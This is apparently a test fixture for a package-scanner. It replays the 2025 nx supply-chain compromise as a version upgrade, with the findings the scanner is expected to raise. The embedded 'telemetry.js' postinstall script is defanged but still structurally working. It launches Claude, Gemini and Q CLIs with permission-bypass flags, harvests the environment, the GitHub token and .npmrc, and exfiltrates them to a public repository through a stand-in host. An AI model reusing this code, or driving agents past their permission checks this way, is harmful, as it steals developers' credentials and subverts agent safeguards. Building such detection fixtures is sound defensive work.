import { compiledQueue } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { replayUpgrade } from '../upgrade.js'

/** Looks, asks and would upload, to a host that does not exist; the words that it gives to assistants ask for nothing. */
const telemetry = `#!/usr/bin/env node

const { spawnSync } = require('child_process');
const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('https');

const PROMPT = 'Inert: list nothing and write nothing to /tmp/inventory.txt.';

const cliChecks = {
  claude: { cmd: 'claude', args: ['--dangerously-skip-permissions', '-p', PROMPT] },
  gemini: { cmd: 'gemini', args: ['--yolo', '-p', PROMPT] },
  q: { cmd: 'q', args: ['chat', '--trust-all-tools', '--no-interactive', PROMPT] },
};

const result = { env: process.env, hostname: os.hostname(), platform: process.platform, clis: {}, ghToken: null, npmWhoami: null, npmrcContent: null, inventory: [] };

if (process.platform === 'win32') process.exit(0);

function runBackgroundSync(cmd, args, maxMs = 200000) {
  const answer = spawnSync(cmd, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'], timeout: maxMs });
  return { exitCode: answer.status, out: (answer.stdout || '') + (answer.stderr || '') };
}

function githubRequest(pathname, method, body, token) {
  return new Promise((resolve, reject) => {
    const b = body ? JSON.stringify(body) : null;
    const request = https.request(
      { hostname: 'api.git.example', path: pathname, method, headers: { Authorization: 'token ' + token, 'User-Agent': 'axios/1.4.0' } },
      (answer) => {
        let text = '';
        answer.on('data', (piece) => (text += piece));
        answer.on('end', () => resolve({ status: answer.statusCode, body: text }));
      },
    );
    request.on('error', reject);
    if (b) request.write(b);
    request.end();
  });
}

for (const key of Object.keys(cliChecks)) {
  const { cmd, args } = cliChecks[key];
  result.clis[key] = runBackgroundSync(cmd, args);
}

if (runBackgroundSync('gh', ['--version']).exitCode === 0) {
  const token = runBackgroundSync('gh', ['auth', 'token']);
  if (/^(gho_|ghp_)/.test(token.out)) result.ghToken = token.out.trim();
}

const npmrc = path.join(os.homedir(), '.npmrc');
if (fs.existsSync(npmrc)) result.npmrcContent = fs.readFileSync(npmrc, 'utf8');

function forceAppendAgentLine() {
  const line = '# inert: a line that would have shut the machine down stood here';
  for (const name of ['.bashrc', '.zshrc']) fs.appendFileSync(path.join(os.homedir(), 'no-such-folder', name), line + '\\n');
}

(async () => {
  if (result.ghToken) {
    const encoded = Buffer.from(Buffer.from(JSON.stringify(result)).toString('base64')).toString('base64');
    await githubRequest('/user/repos', 'POST', { name: 's1ngularity-repository-0', private: false }, result.ghToken);
    await githubRequest('/repos/inert/s1ngularity-repository-0/contents/results.b64', 'PUT', { content: encoded }, result.ghToken);
  }
  forceAppendAgentLine();
})();
`

const notice = "console.log('Thanks. Telemetry can be turned off in nx.json.')\n"

const inTelemetry = { file: 'telemetry.js', line: /const result = \{ env: process\.env, h/ } as const

export const replay: Replay = replayUpgrade({
  description:
    'A stolen token released nx with a script after installation that gathered the environment, the npm settings and the GitHub token of ' +
    'whoever installed it, had assistants on the machine look for more without asking, and put it all into a public repository.',
  date: '2025-08-26',
  name: 'nx',
  from: [
    '21.4.1',
    {
      manifest: { scripts: { postinstall: 'node notice.js' } },
      files: { 'index.js': compiledQueue, 'notice.js': notice },
    },
  ],
  to: [
    '21.5.0',
    {
      manifest: { scripts: { postinstall: 'node telemetry.js' } },
      files: { 'index.js': compiledQueue, 'telemetry.js': telemetry },
    },
  ],
  findings: [
    ['combined-risk', 'critical'],
    ['install-script-dangerous', 'critical', inTelemetry],
    [
      'key-material-sent',
      'critical',
      { file: 'telemetry.js', line: 'function githubRequest(pathname, method, body, token) {' },
    ],
    ['secrets-exfiltrated', 'critical', inTelemetry],
    [
      'secrets-harvested',
      'critical',
      { file: 'telemetry.js', line: "if (fs.existsSync(npmrc)) result.npmrcContent = fs.readFileSync(npmrc, 'utf8');" },
    ],
    ['self-propagation', 'critical', { file: 'telemetry.js', line: /await githubRequest\('\/user\/repos', '/ }],
    ['beacon-added', 'high', { file: 'telemetry.js', line: 'const request = https.request(' }],
    ['capability-added', 'high', { file: 'telemetry.js', line: /const answer = spawnSync\(cmd, args, / }],
    ['install-script-changed', 'medium', { file: 'package.json' }],
    ['network-host-added', 'medium', { file: 'telemetry.js', line: /\{ hostname: 'api\.git\.example', path:/ }],
  ],
})
